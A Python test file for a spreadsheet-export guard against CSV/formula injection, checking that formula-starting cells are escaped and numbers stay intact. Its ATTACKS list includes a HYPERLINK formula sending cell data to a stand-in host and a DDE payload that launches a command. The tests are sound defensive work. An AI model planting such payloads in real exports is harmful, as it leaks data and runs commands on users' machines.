"""The spreadsheet guard every CSV and XLSX export goes through (OWASP's CSV-injection rules)."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from persistence.exchange.spreadsheet_safety import (
    FORMULA_TRIGGERS,
    safe_cell,
    safe_text,
    write_csv,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－2",
    "＠SUM(1)",
]


def _runs(cell: str) -> bool:
    """Would a spreadsheet take this cell for a formula (after trimming spaces, as LibreOffice
    may)?"""
    return cell.lstrip(" \u00a0\u3000")[:1] in FORMULA_TRIGGERS or cell[:1] in FORMULA_TRIGGERS


def test_every_formula_start_is_neutralised_and_plain_text_kept() -> None:
    for attack in ATTACKS:
        assert safe_text(attack) == "'" + attack
        assert not _runs(safe_text(attack))
    for plain in ("Ada Lovelace", "Acme › Finance", "3 people", "", "it's fine = yes"):
        assert safe_text(plain) == plain


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_guarded() -> None:
    assert safe_cell(-2) == -2
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(7) == 7
    assert safe_cell(None) == ""
    assert safe_cell("-2") == "'-2"


@given(st.text())
def test_no_text_comes_out_runnable_and_nothing_is_lost(text: str) -> None:
    guarded = safe_text(text)
    assert not _runs(guarded)
    assert guarded in (text, "'" + text)


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)))))
def test_written_csv_has_no_runnable_text_cell(tmp_path_factory, rows) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    write_csv(Path(path), ["name"], rows)
    with path.open(encoding="utf-8", newline="") as handle:
        read = list(csv.reader(handle))
    for written, row in zip(read[1:], rows, strict=True):
        for cell, value in zip(written, row, strict=True):
            if isinstance(value, str):
                assert not _runs(cell)
            elif isinstance(value, int):
                assert int(cell) == value
            else:
                assert float(cell) == value
